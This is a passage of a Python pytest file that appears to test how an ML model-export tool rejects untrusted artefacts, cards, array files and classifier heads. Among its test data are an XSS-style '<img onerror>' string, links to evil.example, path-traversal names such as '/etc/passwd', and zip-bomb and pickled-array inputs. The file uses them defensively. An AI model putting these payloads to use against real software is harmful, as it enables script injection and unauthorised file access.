"""What comes from a stranger: artefacts, heads and stores that nobody here made. And what an artefact says of its maker."""

from __future__ import annotations

import csv
import getpass
import hashlib
import io
import json
import os
import py_compile
import re
import shutil
import signal
import socket
import stat
import subprocess
import sys
import tracemalloc
import zipfile
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import replace
from datetime import UTC, datetime
from functools import partial
from pathlib import Path
from types import FrameType
from typing import Any

import numpy as np
import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from pipeline.deploy import artefact, card_facts, cards, drafts, export, formats, fresh_process, model_card, ownership
from pipeline.deploy.predict import open_model
from pipeline.runs import neighbours, runs, taxonomy
from pipeline.runs.evaluations import Evaluation
from pipeline.runs.neighbours import Neighbours
from pipeline.runs.runs import Run
from pipeline.runtime.frameworks import load_keras
from pipeline.train import layers as dense
from pipeline.train.heads import Head
from pipeline.train.scaling import Scaling
from store import arrays, files
from store.errors import ColdframeError
from store.parts import write_table
from store.schemas import SCHEMAS
from store.store import Store
from tests.support import backbones
from tests.support.artefacts import CLASSES, put_card
from tests.support.coldframe import REPOSITORY, Coldframe, environment, picture

pytestmark = [pytest.mark.slow, pytest.mark.variants]

SET = backbones.NAME
FORMATS = ("onnx", "openvino")
HOSTILE = {
    "finch": "finch",
    "heron": "<img src=x onerror=alert(1)> | `c` [me](http://evil.example) ![i](http://evil.example/i.png)",
    "moth": "moth \u202ehtom @you #12 www.evil.example *b* _i_ ~~s~~ &amp; \\",
}
MAIL = "jo@example.org"


@pytest.fixture(autouse=True)
def _no_waiting() -> Iterator[None]:
    """A test that waits for a pipe fails: nothing here takes that long."""

    def stop(number: int, frame: FrameType | None) -> None:
        raise TimeoutError("it waits")

    before = signal.signal(signal.SIGALRM, stop)
    signal.alarm(300)
    yield
    signal.alarm(0)
    signal.signal(signal.SIGALRM, before)


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def saved(**held: Any) -> bytes:
    buffer = io.BytesIO()
    np.savez(buffer, **held)
    return buffer.getvalue()


def training(**other: Any) -> dict[str, Any]:
    """The arrays of an artefact's training images, some of them others."""
    return {
        "training/image_ids": np.array(["a", "b", "c"]),
        "training/labels": np.array(CLASSES),
        "training/vectors": np.eye(3, 4, dtype=np.float16),
    } | {f"training/{name}": array for name, array in other.items()}


def planted(folder: Path, **other: Any) -> Path:
    """A folder with all that an artefact has, though with no model that runs, and a card in which some values are others."""
    folder.mkdir()
    (folder / "model.onnx").write_bytes(b"model")
    (folder / "decoding.py").write_text("")
    (folder / "MODEL_CARD.md").write_text("# card")
    readable = {"readable_card": digest(folder / "MODEL_CARD.md")}
    (folder / "neighbours.npz").write_bytes(saved(**training()))
    taxonomy = {"phylum": {"arthropoda": ["moth"], "chordata": ["finch", "heron"]}}
    listed = ["model.onnx", "decoding.py", "neighbours.npz"]
    return put_card(folder, listed, **{"taxonomy": taxonomy, **readable} | other)


def inside(folder: Path) -> dict[str, bytes | None]:
    """All that is in a folder, the bytes of regular files."""
    return {
        str(path.relative_to(folder)): path.read_bytes() if stat.S_ISREG(path.lstat().st_mode) else None
        for path in sorted(folder.rglob("*"))
    }


def test_an_artefact_of_an_earlier_version_is_read(tmp_path: Path) -> None:
    """Its card has no key but those, and any column of the catalogue."""
    columns = {"owner_email": {MAIL: ["finch"]}, "phylum": {"chordata": CLASSES}}
    given = artefact.read(planted(tmp_path / "old", taxonomy=columns, made_by="somebody"))
    assert given.classes.tolist() == CLASSES
    assert given.size == (8, 6)
    known = given.neighbours()
    assert known is not None
    assert known.nearest(np.eye(1, 4, dtype=np.float32), 1)[0].tolist() == [[0]]
    with pytest.raises(ColdframeError, match="no such column; columns: owner_email, phylum"):
        taxonomy.allowed(given.card["taxonomy"], [("order", "x")], given.classes)


# What is removed, and what is not


def a_file(folder: Path) -> str:
    (folder / "thesis.txt").write_text("years of work")
    return "thesis.txt"


def a_folder(folder: Path) -> str:
    (folder / "model.keras").mkdir()
    (folder / "model.keras" / "thesis.txt").write_text("years of work")
    return "model.keras"


def a_link(folder: Path) -> str:
    outside = folder.parent / "outside.npz"
    outside.write_text("years of work")
    (folder / "model.bin").symlink_to(outside)
    return "model.bin"


def a_pipe(folder: Path) -> str:
    os.mkfifo(folder / "model.xml")
    return "model.xml"


def a_hidden_file(folder: Path) -> str:
    (folder / ".notes").write_text("years of work")
    return ".notes"


STRANGE = (a_file, a_folder, a_link, a_pipe, a_hidden_file)


@pytest.mark.parametrize("put", STRANGE)
@pytest.mark.parametrize("card", ["card.json", "card.draft.json"])
def test_what_a_planted_card_lists_is_not_removed(tmp_path: Path, put: Callable[[Path], str], card: str) -> None:
    folder = planted(tmp_path / "mine")
    name = put(folder)
    listed = json.loads((folder / "card.json").read_text())
    listed["files"] |= {name: "0" * 64, f"../{folder.name}/{name}": "0" * 64}
    (folder / "card.json").rename(folder / card)
    (folder / card).write_text(json.dumps(listed))
    before = inside(tmp_path)
    assert ownership.foreign(folder) is not None
    with pytest.raises(ColdframeError, match="there already, and no artefact or not that alone"):
        export._check_place(folder, force=True)
    assert "left where it is" in str(ownership.remove(folder))
    assert inside(tmp_path) == before


@pytest.mark.parametrize("card", ["[]", "{", "null", '{"card_version": 1, "files": ["model.onnx"]}', "[" * 100_000])
def test_a_folder_with_a_card_that_is_none_is_nobodys(tmp_path: Path, card: str) -> None:
    folder = planted(tmp_path / "mine")
    (folder / "card.json").write_text(card)
    with pytest.raises(ColdframeError, match="there already, and no artefact"):
        export._check_place(folder, force=True)


@pytest.mark.parametrize("target", ["elsewhere", "nowhere", "a file"])
def test_a_link_is_not_replaced(tmp_path: Path, target: str) -> None:
    planted(tmp_path / "elsewhere")
    (tmp_path / "a file").write_text("x")
    (tmp_path / "final").symlink_to(tmp_path / target)
    before = inside(tmp_path)
    with pytest.raises(ColdframeError, match="final: a link, which is neither followed nor replaced"):
        export._check_place(tmp_path / "final", force=True)
    assert "a link" in str(ownership.remove(tmp_path / "final"))
    assert inside(tmp_path) == before


def draft_of(final: Path, number: int = 0, **other: Any) -> Path:
    """What an export leaves that is killed while it looks whether the model gives what it should."""
    folder = planted(final.with_name(f".{final.name}-{number:032x}.part"), **other)
    (folder / "card.json").rename(folder / "card.draft.json")
    (folder / "rehearsal.json").write_text("{}")
    (folder / "model.keras").write_bytes(b"half a mod")
    (folder / ".draft").write_bytes(ownership.mark(folder))
    return folder


def test_only_whole_drafts_of_killed_exports_are_removed(tmp_path: Path) -> None:
    final = tmp_path / "final"
    killed, *kept = [draft_of(final, number) for number in range(9)]
    for draft, put in zip(kept, STRANGE, strict=False):
        (draft / "model.keras").unlink()
        put(draft)
    (kept[5] / ".draft").unlink()
    (kept[6] / ".draft").write_bytes(ownership.mark(kept[5]))
    shutil.rmtree(kept[7])
    kept[7].symlink_to(kept[6])
    gone = {killed.name, *(f"{killed.name}/{name}" for name in inside(killed))}
    before = inside(tmp_path)
    notes: list[str] = []
    with drafts.beside(final, notes) as made:
        assert ownership.is_marked(made.folder)
        now = inside(tmp_path)
        assert now == {name: data for name, data in before.items() if name not in gone} | {
            made.folder.name: None,
            f"{made.folder.name}/.draft": ownership.mark(made.folder),
        }
    assert len(notes) == len(kept)
    assert all(str(one) in note for one, note in zip(kept, notes, strict=True))
    assert set(ownership.REHEARSAL) == {fresh_process.ASKED, fresh_process.ANSWERED}


def test_a_draft_that_an_export_fills_stays(tmp_path: Path) -> None:
    with drafts.beside(tmp_path / "final", []) as made:
        (made.place / "model.onnx").write_bytes(b"half a mod")
        notes: list[str] = []
        with drafts.beside(tmp_path / "final", notes) as other:
            assert other.folder != made.folder
        assert (made.folder / "model.onnx").exists()
        assert notes == []


@pytest.mark.parametrize(
    "name", ["20240101", "1", "7-old", "old", "²", f"{10:032x}", f"{10:032X}.part", f"{10:031x}.part", f"{10:032x}.old"]
)
def test_a_folder_that_only_looks_like_a_draft_stays(tmp_path: Path, name: str) -> None:
    folder = tmp_path / f".backup-{name}"
    folder.mkdir()
    (folder / "model.keras").write_text("years of work")
    (folder / "MODEL_CARD.md").write_text("about it")
    (folder / ".draft").write_bytes(ownership.mark(folder))
    before = inside(tmp_path)
    notes: list[str] = []
    with drafts.beside(tmp_path / "backup", notes):
        pass
    assert inside(tmp_path) == before
    told = {"20240101": "if it is a draft of an earlier coldframe", f"{10:032x}.old": "move it back to"}
    expected = {"1": told["20240101"], "7-old": told["20240101"], **told}.get(name)
    assert [expected in note for note in notes if expected] == [True] * len(notes)
    assert len(notes) == (expected is not None)


def test_a_draft_goes_with_its_export(tmp_path: Path) -> None:
    def fail(*put: Callable[[Path], str]) -> None:
        with drafts.beside(tmp_path / "final", []) as made:
            (made.place / "model.onnx").write_bytes(b"half a mod")
            for one in put:
                one(made.folder)
            raise ColdframeError("no")

    with pytest.raises(ColdframeError, match=r"^no$"):
        fail()
    assert list(tmp_path.iterdir()) == []
    with pytest.raises(ColdframeError, match=r"^no; .*left where it is, .*thesis\.txt"):
        fail(a_file)
    assert len(list(tmp_path.glob(".final-*/thesis.txt"))) == 1


def test_what_is_put_aside_comes_back_or_goes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    final = planted(tmp_path / "final")
    before = inside(final)

    def new(number: int) -> Path:
        folder = draft_of(final, number, max_pixels=7)
        for name in ("rehearsal.json", "model.keras"):
            (folder / name).unlink()
        return folder

    def fail(number: int, when: str, *put: Callable[[Path], str]) -> None:
        draft, rename = new(number), files.rename

        def failing(old: Path, to: Path) -> None:
            if when == "before":
                raise RuntimeError
            rename(old, to)
            for one in put:
                one(final)
            raise RuntimeError

        with monkeypatch.context() as patched:
            patched.setattr(files, "rename", failing)
            drafts.publish(drafts.Draft(draft, draft), final, [])

    for number, when in enumerate(("before", "after")):
        with pytest.raises(RuntimeError):
            fail(number, when)
        assert inside(final) == before
        assert not list(tmp_path.glob(".final-*.old"))
        shutil.rmtree(tmp_path / f".final-{number:032x}.part", ignore_errors=True)
    with pytest.raises(ColdframeError, match=r"thesis\.txt.*what was there before is"):
        fail(2, "after", a_file)
    assert (final / "thesis.txt").exists()
    (old,) = tmp_path.glob(".final-*.old")
    assert inside(old) == before
    shutil.rmtree(final)
    old.rename(final)
    notes: list[str] = []
    drafts.publish(drafts.Draft(new(3), tmp_path / f".final-{3:032x}.part"), final, notes)
    assert (os.listdir(tmp_path), notes) == (["final"], [])
    assert artefact.read(final).card["max_pixels"] == 7
    assert ownership.foreign(final) is None
    a_file(final)  # a moment too late to be seen before
    drafts.publish(drafts.Draft(new(4), tmp_path / f".final-{4:032x}.part"), final, notes)
    (aside,) = tmp_path.glob(".final-*.old")
    assert (aside / "thesis.txt").exists()
    assert "thesis.txt" in notes[0]


WRITTEN = hashlib.sha256(b"years of work").hexdigest()
PLANTED: tuple[dict[str, Any], ...] = (
    {"card_version": "yes", "files": {"model.keras": ""}},
    {"card_version": 1, "files": {"model.keras": None}},
    {"card_version": 1, "files": {"model.keras": WRITTEN}},
    {"card_version": True, "files": {"model.keras": [], "MODEL_CARD.md": 1, "decoding.py": {}}},
    {"card_version": 1, "files": ["model.keras", "MODEL_CARD.md"]},
    {"card_version": 1, "files": {"model.keras": "0" * 64}, "readable_card": None},
)


@pytest.mark.parametrize("force", [True, False])
@pytest.mark.parametrize("card", ["card.json", "card.draft.json"])
@pytest.mark.parametrize("said", PLANTED, ids=lambda said: ascii(said)[:50])
@pytest.mark.parametrize("mine", [("model.keras",), ("model.keras", "MODEL_CARD.md", "decoding.py")])
def test_a_card_makes_no_artefact_of_somebodys_files(
    tmp_path: Path, mine: tuple[str, ...], said: dict[str, Any], card: str, force: bool
) -> None:
    folder = tmp_path / "backup"
    folder.mkdir()
    for name in mine:
        (folder / name).write_text("years of work")
    (folder / card).write_text(json.dumps(said))
    before = inside(folder)
    with pytest.raises(ColdframeError, match=r"no artefact or not that alone .*: move it away"):
        export._check_place(folder, force=force)
    assert "left where it is" in str(ownership.remove(folder))
    assert inside(folder) == before


CHANGES: dict[str, dict[str, Any]] = {
    "another digest": {"files": {"model.onnx": "0" * 64}},
    "no digest of the readable card": {"readable_card": None},
    "another digest of the readable card": {"readable_card": "0" * 64},
    "a digest of another kind": {"readable_card": 7},
    "another version": {"card_version": 2},
    "a version of another kind": {"card_version": 1.0},
    "a size of another kind": {"size": "8x6"},
    "rules of another kind": {"decoding": "1"},
}


@pytest.mark.parametrize("card", ["card.json", "card.draft.json"])
@pytest.mark.parametrize("kind", CHANGES)
def test_a_whole_card_of_other_files_makes_no_artefact_of_them(tmp_path: Path, kind: str, card: str) -> None:
    folder = planted(tmp_path / "mine", **CHANGES[kind])
    (folder / "card.json").rename(folder / card)
    with pytest.raises(ColdframeError, match=r"no artefact or not that alone .*: move it away"):
        export._check_place(folder, force=True)
    before = inside(folder)
    assert "left where it is" in str(ownership.remove(folder))
    assert inside(folder) == before


@pytest.mark.parametrize("missing", [None, "MODEL_CARD.md", "model.onnx"])
@pytest.mark.parametrize("card", ["card.json", "card.draft.json"])
def test_an_artefact_is_replaced_only_by_force(tmp_path: Path, card: str, missing: str | None) -> None:
    """Finished or not, also one that has lost a file, and one of other rules of decoding."""
    folder = planted(tmp_path / "mine", note="of a later version")
    (folder / "card.json").rename(folder / card)
    if missing is not None:
        (folder / missing).unlink()
    with pytest.raises(
        ColdframeError, match="there already: name another place with --output, or replace it with --force"
    ):
        export._check_place(folder, force=False)
    export._check_place(folder, force=True)
    assert ownership.remove(folder) is None
    assert not folder.exists()


# Cards


@pytest.mark.parametrize(
    "other",
    [
        {"size": [0, 8]},
        {"size": [10**9, 8]},
        {"size": [True, 8]},
        {"size": "88"},
        {"size": [8.0, 8]},
        {"size": {"0": 8, "1": 8}},
        {"max_pixels": -1},
        {"max_pixels": 2**31},
        {"max_pixels": float("nan")},
        {"max_pixels": "9"},
        {"max_pixels": 1e6},
        {"classes": []},
        {"classes": ["moth", "finch"]},
        {"classes": ["finch", "finch"]},
        {"classes": ["finch", 3]},
        {"classes": "finch"},
        {"classes": {"finch": 1}},
        {"classes": ["finch", "x" * 100_000]},
        {"classes": ["finch", "finch\0"]},
        {"taxonomy": []},
        {"taxonomy": {"phylum": ["finch"]}},
        {"taxonomy": {"phylum": {"chordata": ["wolf"]}}},
        {"taxonomy": {"phylum": {"chordata": "finch"}}},
        {"taxonomy": {"phylum": {"chordata": [["finch"]]}}},
        {"taxonomy": {"phylum": {"chordata": [None]}}},
        {"taxonomy": {"phylum": {"chordata": []}}},
        {"files": []},
        {"files": {}},
        {"files": {"model.onnx": 7}},
        {"files": {"model.onnx": "0" * 63}},
        {"files": {"model.onnx": "Z" * 64}},
        *(
            {"files": {"model.onnx": hashlib.sha256(b"model").hexdigest(), name: "0" * 64}}
            for name in ("thesis.txt", "")
        ),
        *(
            {"files": {"model.onnx": hashlib.sha256(b"model").hexdigest(), name: "0" * 64}}
            for name in ("../a", "/etc/passwd")
        ),
        *(
            {"files": {"model.onnx": hashlib.sha256(b"model").hexdigest(), name: "0" * 64}}
            for name in ("..", "a\0b", "a/b")
        ),
        {"files": {"decoding.py": "0" * 64}},
        {"format": "pickle"},
        {"format": ["onnx"]},
        {"format": "../formats/onnx"},
        {"decoding": [1]},
        {"decoding": True},
        {"card_version": True},
        {"card_version": {"a": 1}},
        {"card_version": "\u001b[2J" * 1000},
        {"run_id": 7},
        {"training_images": -1},
        {"largest_difference": float("inf")},
        {"evaluations": {"a": 1}},
        {"image_licences": {"CC0": "many"}},
        {"note": 10**400},
        {"note": "\ud800"},
        {"\udc80": 1},
    ],
    ids=lambda other: ascii(other)[:50],
)
def test_a_malformed_card_is_one_sentence(tmp_path: Path, other: dict[str, Any]) -> None:
    folder = planted(tmp_path / "given", **other)
    with pytest.raises(ColdframeError) as raised:
        artefact.read(folder)
    said = str(raised.value)
    assert str(folder) in said
    assert "export the run again" in said or "does not know: keras, onnx, openvino" in said
    assert said.isprintable()
    assert len(said) < 500 + len(str(folder))


@pytest.mark.parametrize(
    "data",
    [
        b"\xff\xfe\x00",
        json.dumps({"card_version": 1}).encode("utf-16"),
        b"",
        b"[" * 200_000,
        b'{"a":' * 100_000,
        b'{"card_version": ' + b"9" * 10_000 + b"}",
        b'{"a": "' + b"x" * (17 << 20) + b'"}',
        b"7",
        b"[1]",
    ],
    ids=lambda data: ascii(data[:20]),
)
def test_what_is_no_card_is_one_sentence(tmp_path: Path, data: bytes) -> None:
    folder = planted(tmp_path / "given")
    (folder / "card.json").write_bytes(data)
    with pytest.raises(ColdframeError, match=r"card\.json: not a model card .*: export the run again"):
        artefact.read(folder)


anything = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda some: st.lists(some, max_size=3) | st.dictionaries(st.text() | st.sampled_from(CLASSES), some, max_size=3),
    max_leaves=8,
)


@pytest.mark.exhaustive
@settings(max_examples=300)
@given(st.data())
def test_any_value_anywhere_in_a_card_is_taken_or_refused(tmp_path_factory: pytest.TempPathFactory, data: Any) -> None:
    folder = tmp_path_factory.getbasetemp() / "any"
    if not folder.exists():
        planted(folder)
        (folder / "card.json").rename(folder / "whole")
    card = json.loads((folder / "whole").read_text())
    place, key = card, data.draw(st.sampled_from([*card, "kind", "evaluations", "versions", "carries"]))
    while isinstance(place.get(key), dict) and place[key] and data.draw(st.booleans()):
        place = place[key]
        key = data.draw(st.sampled_from([*place]))
    place[key] = data.draw(anything)
    (folder / "card.json").write_text(json.dumps(card))
    with suppress(ColdframeError):
        given = artefact.read(folder)
        assert given.size
        assert given.neighbours()
        for column in given.card["taxonomy"]:
            taxonomy.to_matrix(given.card["taxonomy"][column], given.classes)


def make_pipe(path: Path) -> None:
    os.mkfifo(path)


def make_folder(path: Path) -> None:
    path.mkdir()


def make_link(path: Path) -> None:
    path.symlink_to("/dev/zero")


def make_link_to_copy(path: Path) -> None:
    shutil.copyfile(path.parent / "MODEL_CARD.md", path.parent / "copy")
    path.symlink_to("copy")


def make_socket(path: Path) -> None:
    with socket.socket(socket.AF_UNIX) as one:
        here = os.getcwd()
        os.chdir(path.parent)  # the name of a socket may not be long
        one.bind(path.name)
        os.chdir(here)


@pytest.mark.parametrize("make", [make_pipe, make_folder, make_link, make_link_to_copy, make_socket])
@pytest.mark.parametrize("name", ["card.json", "card.draft.json", "model.onnx", "neighbours.npz", "decoding.py"])
def test_no_pipe_is_waited_for_and_no_link_followed(tmp_path: Path, name: str, make: Callable[[Path], None]) -> None:
    folder = planted(tmp_path / "given")
    if name == "card.draft.json":
        (folder / "card.json").rename(folder / name)
    (folder / name).unlink()
    make(folder / name)
    with pytest.raises(ColdframeError, match=f"{name}: .*expected a regular file.*: export the run again"):
        artefact.read(folder, card=name if name.endswith("json") else cards.CARD)
    with pytest.raises(ColdframeError, match="given"):
        open_model(folder)
    assert ownership.foreign(folder) is not None


# Arrays


def npy(array: Any, *, shape: Any = None, descr: str | None = None) -> bytes:
    """An array's file whose header may claim something else."""
    buffer = io.BytesIO()
    header = np.lib.format.header_data_from_array_1_0(array)
    header |= {} if shape is None else {"shape": shape}
    header |= {} if descr is None else {"descr": descr}
    np.lib.format.write_array_header_1_0(buffer, header)
    data: bytes = array.tobytes()
    return buffer.getvalue() + data


def zipped(members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def with_vectors(data: bytes, compression: int = zipfile.ZIP_STORED) -> bytes:
    others = {f"{name}.npy": npy(array) for name, array in training().items()}
    return zipped(others | {"training/vectors.npy": data}, compression)


def overlapping() -> bytes:
    """Two arrays of one name, which is one way to have more than the file has."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("training/vectors.npy", npy(np.zeros((3, 4), np.float32)))
        archive.filelist.append(archive.filelist[0])  # of its directory
    return buffer.getvalue()


VECTORS = np.zeros((3, 4), np.float32)
MALFORMED: dict[str, Callable[[], bytes]] = {
    "a bomb": lambda: with_vectors(npy(np.zeros((100_000, 100), np.float32)), zipfile.ZIP_DEFLATED),
    "a claim": lambda: with_vectors(npy(VECTORS, shape=(10**9, 1000))),
    "a claim of nothing": lambda: with_vectors(npy(np.zeros(0), shape=(0, 10**12))),
    "no width": lambda: with_vectors(npy(np.zeros(0), shape=(10**12,), descr="<U0")),
    "negative": lambda: with_vectors(npy(VECTORS, shape=(-3, -4))),
    "objects": lambda: with_vectors(npy(VECTORS, descr="|O")),
    "pickled": lambda: saved(**training(vectors=np.array([{}, {}, {}], object))),
    "a record": lambda: saved(**training(vectors=np.zeros(3, [("a", "f4")]))),
    "dates": lambda: saved(**training(vectors=np.zeros((3, 4), "M8[s]"))),
    "a header of brackets": lambda: with_vectors(b"\x93NUMPY\x01\x00\x88\x13" + b"(" * 5000),
    "no array": lambda: zipped({"training/vectors.txt": b"no"}),
    "twice": overlapping,
    "no zip": lambda: b"no zip at all",
    "empty": lambda: b"",
    "a directory without an end": lambda: with_vectors(npy(VECTORS))[:-30],
    "no key": lambda: saved(other=VECTORS),
    "a key missing": lambda: saved(**{key: one for key, one in training().items() if not key.endswith("labels")}),
    "shorter": lambda: saved(**training(vectors=np.zeros((2, 4), np.float32))),
    "longer": lambda: saved(**training(labels=np.array([*CLASSES, "moth"]))),
    "flat": lambda: saved(**training(vectors=np.zeros(3, np.float32))),
    "of no length": lambda: saved(**training(vectors=np.zeros((3, 0), np.float32))),
    "of no image": lambda: saved(**{key: one[:0] for key, one in training().items()}),
    "whole numbers": lambda: saved(**training(vectors=np.zeros((3, 4), int))),
    "no numbers": lambda: saved(**training(vectors=np.full((3, 4), np.nan, np.float32))),
    "numbers for names": lambda: saved(**training(image_ids=np.arange(3))),
    "no class": lambda: saved(**training(labels=np.array(["finch", "moth", "wolf"]))),
    "no characters": lambda: saved(**training(image_ids=np.full(3, 0x7FFFFFFF, np.uint32).view("<U1"))),
}


@pytest.mark.parametrize("kind", MALFORMED)
def test_arrays_of_a_stranger_are_one_sentence_and_little_memory(tmp_path: Path, kind: str) -> None:
    data = MALFORMED[kind]()
    folder = planted(tmp_path / "given")
    (folder / "neighbours.npz").write_bytes(data)
    card = json.loads((folder / "card.json").read_text())
    card["files"]["neighbours.npz"] = digest(folder / "neighbours.npz")
    (folder / "card.json").write_text(json.dumps(card))
    given = artefact.read(folder)
    tracemalloc.start()
    try:
        with pytest.raises(ColdframeError, match=r"neighbours\.npz: not readable \(.*\): export the run again"):
            given.neighbours()
        assert tracemalloc.get_traced_memory()[1] < 20e6
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("make", [make_pipe, make_link, make_folder])
def test_arrays_are_read_from_regular_files(tmp_path: Path, make: Callable[[Path], None]) -> None:
    (tmp_path / "MODEL_CARD.md").touch()
    make(tmp_path / "a.npz")
    with pytest.raises(arrays.Malformed, match="expected a regular file"):
        arrays.read(tmp_path / "a.npz")


def test_a_file_larger_than_memory_is_not_read(tmp_path: Path) -> None:
    file = tmp_path / "a.npz"
    file.write_bytes(saved(**training()))
    os.truncate(file, 1 << 42)  # with no bytes on the disk
    with pytest.raises(arrays.Malformed, match="more than this machine can hold"):
        arrays.read(file)


@pytest.mark.parametrize("name", ["model.onnx", "decoding.py", "neighbours.npz"])
def test_a_file_of_an_artefact_with_holes_is_said(tmp_path: Path, name: str) -> None:
    folder = planted(tmp_path / "given")
    os.truncate(folder / name, 1 << 43)  # with no bytes on the disk
    with pytest.raises(ColdframeError, match=rf"{name}: cannot be read \(its 8796093022208 bytes are more than this"):
        artefact.read(folder)
    assert ownership.foreign(folder) is not None


def test_training_images_are_no_more_than_an_export_writes(tmp_path: Path) -> None:
    count = neighbours.MOST
    for more in (0, 1):
        many: dict[str, Any] = {
            "image_ids": np.full(count + more, "a"),
            "labels": np.full(count + more, "moth"),
            "vectors": np.ones((count + more, 1), np.float16),
        }
        folder = given_training(tmp_path / str(more), **many)
        if not more:
            assert artefact.read(folder).neighbours() is not None
            continue
        with pytest.raises(
            ColdframeError, match=f"{count + 1} training images, and no export writes more than {count}"
        ):
            artefact.read(folder).neighbours()


def given_training(folder: Path, **other: Any) -> Path:
    """An artefact with these training images."""
    planted(folder)
    (folder / "neighbours.npz").write_bytes(saved(**training(**other)))
    card = json.loads((folder / "card.json").read_text())
    card["files"]["neighbours.npz"] = digest(folder / "neighbours.npz")
    (folder / "card.json").write_text(json.dumps(card))
    return folder


def test_training_images_fit_into_half_of_the_memory(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """As they are in the file, and beside that as float32."""
    folder = given_training(tmp_path / "given", vectors=np.ones((3, 500_000), np.float16))
    given, size = artefact.read(folder), (folder / "neighbours.npz").stat().st_size
    tracemalloc.start()
    try:
        assert given.neighbours() is not None
        assert tracemalloc.get_traced_memory()[1] < 3.2 * size
    finally:
        tracemalloc.stop()
    monkeypatch.setattr(arrays, "memory_bytes", lambda: 6 * size - 6)
    with pytest.raises(ColdframeError, match=r"neighbours\.npz: cannot be read .*more than this machine can hold"):
        given.neighbours()
    monkeypatch.setattr(arrays, "memory_bytes", lambda: 6 * size + 6)
    assert given.neighbours() is not None


def test_a_long_label_makes_no_class_longer(tmp_path: Path) -> None:
    """NumPy would give each of many classes the width of the label."""
    folder = given_training(tmp_path / "given", labels=np.array([*CLASSES[:2], "x" * 100_000]))
    card = json.loads((folder / "card.json").read_text())
    card["classes"] = sorted({*CLASSES, *(f"{number:04d}" for number in range(2000))})
    (folder / "card.json").write_text(json.dumps(card))
    given = artefact.read(folder)
    tracemalloc.start()
    try:
        with pytest.raises(ColdframeError, match="a label that is no class of the model"):
            given.neighbours()
        assert tracemalloc.get_traced_memory()[1] < 20e6
    finally:
        tracemalloc.stop()


def test_what_numpy_writes_is_read(tmp_path: Path) -> None:
    held = {
        "columns first": np.asfortranarray(np.arange(12.0).reshape(3, 4)),
        "text/of one": np.array("ü"),
        "other bytes": np.arange(3, dtype=">i4"),
        "none": np.zeros((0, 5), np.float16),
        "true": np.array([True, False]),
    }
    (tmp_path / "a.npz").write_bytes(saved(**held))
    found = arrays.read(tmp_path / "a.npz")
    assert found.keys() == held.keys()
    assert all(np.array_equal(found[name], held[name]) for name in held)
    assert all(one.flags.writeable and one.dtype.isnative for one in found.values())


def test_vectors_of_another_length_are_said() -> None:
    known = Neighbours(np.array(["a"]), np.array(["finch"]), np.zeros((1, 4), np.float32))
    with pytest.raises(ColdframeError, match="have 4 numbers, those that the model gives are of shape"):
        known.nearest(np.zeros((1, 5), np.float32), 1)


def head(name: str = "mlp", scaling: Any = None, **other: Any) -> dict[str, Any]:
    """The arrays of a head's file, on vectors of 4 numbers and three classes, some of them others, or left out where None."""
    layers: list[dense.Layer] = [dense.BatchNorm(), dense.Dense(3)]
    of_network: dict[str, Any] = {
        dense.LAYERS: dense.to_text(layers),
        **{f"0/{one}": np.ones(4, np.float32) for one in ("gamma", "beta", "moving_mean", "moving_variance")},
        "1/kernel": np.ones((4, 3), np.float32),
        "1/bias": np.ones(3, np.float32),
    }
    of_others: dict[str, dict[str, Any]] = {
        "centroid": {"centroids": np.ones((3, 4), np.float32), "temperature": np.array(1.0)},
        "zero-shot": {"texts": np.ones((3, 4), np.float32)},
        "knn": {
            "matrix": np.ones((5, 4), np.float32),
            "targets": np.arange(5) % 3,
            "classes": np.array(3),
            "k": np.array(2),
        },
    }
    made = {**of_others.get(name, of_network), **other}
    scaled = {"scaling": np.array(json.dumps(scaling or {"kind": "raw", "blocks": [4]}))}
    return {"name": np.array(name), **scaled} | {f"head/{key}": one for key, one in made.items() if one is not None}


def head_with(key: str, array: Any) -> dict[str, Any]:
    """The arrays of a network's file, one of them another, or left out."""
    other: dict[str, Any] = {key: array}
    return head("mlp", None, **other)


@pytest.mark.parametrize("name", ["mlp", "linear", "logistic", "centroid", "zero-shot", "knn"])
def test_a_head_is_read(tmp_path: Path, name: str) -> None:
    (tmp_path / "head.npz").write_bytes(saved(**head(name)))
    assert Head.read(tmp_path / "head.npz").predict(np.ones((2, 4), np.float32)).shape == (2, 3)


LAYERS = (
    "no JSON",
    "[",
    "7",
    "{}",
    "[]",
    "[7]",
    '[{"kind": "conv"}]',
    '[{"kind": ["dense"]}]',
    '[{"kind": "dense"}]',
    "[" * 9999,
)
OTHER_LAYERS = (
    [{"kind": "dense", "units": -3, "relu": False}],
    [{"kind": "dense", "units": 10**12, "relu": False}],
    [{"kind": "dense", "units": 3, "relu": "no"}],
    [{"kind": "dense", "units": True, "relu": False}],
    [{"kind": "dense", "units": 3, "relu": False, "more": 1}],
    [{"kind": "dropout", "rate": 2}],
    [{"kind": "dropout", "rate": 0.5}],
    [{"kind": "batch_norm"}, {"kind": "dense", "units": 4, "relu": False}],
)
MALFORMED_HEADS: dict[str, Callable[[], dict[str, Any]]] = {
    **{f"layers {text[:20]}": partial(head, layers=np.array(text)) for text in LAYERS},
    **{f"layers {given}": partial(head, layers=np.array(json.dumps(given))) for given in OTHER_LAYERS},
    "layers of numbers": lambda: head(layers=np.arange(3)),
    "no layers": lambda: head(layers=None),
    "another kernel": partial(head_with, "1/kernel", np.ones((5, 3), np.float32)),
    "a kernel of text": partial(head_with, "1/kernel", np.full((4, 3), "a")),
    "one gamma for all": partial(head_with, "0/gamma", np.ones(1, np.float32)),
    "no bias": partial(head_with, "1/bias", None),
    "no such head": lambda: head("transformer"),
    "a path for a head": lambda: head("../linear"),
    "no such scaling": lambda: head(scaling={"kind": "log", "blocks": [4]}),
    "scaling of other vectors": lambda: head(scaling={"kind": "raw", "blocks": [5]}),
    "scaling of huge vectors": lambda: head("zero-shot", scaling={"kind": "raw", "blocks": [10**15]}),
